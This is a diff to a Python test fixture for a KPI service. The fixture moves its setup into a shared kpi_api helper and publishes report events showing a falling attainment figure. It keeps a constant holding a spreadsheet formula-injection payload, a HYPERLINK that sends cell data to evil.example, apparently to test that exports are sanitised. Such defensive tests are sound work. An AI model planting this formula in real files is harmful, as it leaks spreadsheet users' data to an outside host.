@@ -21,12 +21,10 @@ from bdhvs_shared.catalogue import catalogue_from_texts, read_files, texts_versi
 from bdhvs_shared.catalogue.loader import default_directory
 from bdhvs_shared.events import CataloguePublished, subjects
 from bdhvs_shared.nats.streams import ensure_streams
-from kpi.bootstrap import create_app
-from kpi.settings import KpiSettings
-from support.apps import eventually, running
-from support.auth_server import auth_server
+from support.apps import eventually
 from support.bus import jetstream
 from support.events import publish, report_accepted
+from support.kpi_api import kpi_api
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 
@@ -62,27 +60,19 @@ async def kpi(database_url: str, clean_nats: str, db: asyncpg.Connection) -> Asy
     async with jetstream(clean_nats) as js:
         await ensure_streams(js, ["REPORTS", "CATALOGUE"])
         await publish(js, catalogue_naming_09313(EVIL), subjects.CATALOGUE_PUBLISHED)
-    async with auth_server(database_url, clean_nats) as auth:
-        settings = KpiSettings(
-            nats_url=clean_nats,
-            database_url=database_url,
-            auth_url=auth.url,
-            BDHVS_CLOCK_START="2026-03-20T09:00:00+07:00",
+    async with kpi_api(database_url, clean_nats) as (client, _auth):
+        async with jetstream(clean_nats) as js:
+            # 47 % then 43 %: a falling figure, so that the pace is a negative number
+            for period, numerator in (("2026-02", 4700), ("2026-03", 4300)):
+                event = report_accepted("09313", period, {"c": (numerator, 10000)})
+                await publish(js, event, "bdhvs.report.accepted.09313")
+        await eventually(
+            lambda: db.fetchval(
+                "SELECT numerator FROM kpi.attainment WHERE unit_code = '09313' AND indicator = 'c'"
+            ),
+            lambda n: n == 4300,
         )
-        async with running(create_app(settings)) as client:
-            client.headers.update(auth.headers("operator"))
-            async with jetstream(clean_nats) as js:
-                # 47 % then 43 %: a falling figure, so that the pace is a negative number
-                for period, numerator in (("2026-02", 4700), ("2026-03", 4300)):
-                    event = report_accepted("09313", period, {"c": (numerator, 10000)})
-                    await publish(js, event, "bdhvs.report.accepted.09313")
-            await eventually(
-                lambda: db.fetchval(
-                    "SELECT numerator FROM kpi.attainment WHERE unit_code = '09313' AND indicator = 'c'"
-                ),
-                lambda n: n == 4300,
-            )
-            yield client
+        yield client
 
 
 def rows_of(reply: httpx.Response) -> list[dict[str, str]]:
